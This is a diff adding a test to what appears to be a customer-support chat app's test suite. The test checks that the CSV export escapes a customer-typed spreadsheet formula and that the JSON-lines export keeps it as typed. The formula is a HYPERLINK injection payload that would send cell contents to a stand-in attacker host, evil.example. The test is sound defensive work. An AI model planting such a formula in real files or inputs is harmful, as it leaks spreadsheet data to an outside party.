@@ -357,3 +357,20 @@ def test_handoff_first_accept_wins_and_only_the_holder_talks(api: Api, talks: di
     assert api.call("POST", "/api/agent/conversations/nope/accept", "maya").status_code == 404
     detail = api.call("GET", base, "maya").json()
     assert [m["role"] for m in detail["messages"]].count("system") >= 3
+
+
+# export and spreadsheets ---------------------------------------------------------------------------
+
+
+def test_the_csv_download_shows_what_a_customer_typed_as_text_not_a_formula(api: Api) -> None:
+    typed = '=HYPERLINK("http://evil.example/?leak="&A1, "Refund")'
+    customer = Customer.open(api.server.ws_url)
+    say(customer, typed)
+    customer.ws.close()
+    ours = str(customer.session["conversation_id"])
+    table = api.call("GET", "/api/agent/export", "maya", params={"format": "csv"})
+    rows = [row for row in csv.DictReader(io.StringIO(table.text, newline="")) if row["conversation_id"] == ours]
+    assert rows[0]["role"] == "customer" and rows[0]["text"] == "'" + typed
+    lines = api.call("GET", "/api/agent/export", "maya", params={"format": "jsonl"}).text.splitlines()
+    objects = [json.loads(line) for line in lines]
+    assert next(o["text"] for o in objects if o["conversation_id"] == ours) == typed  # JSON lines: as typed
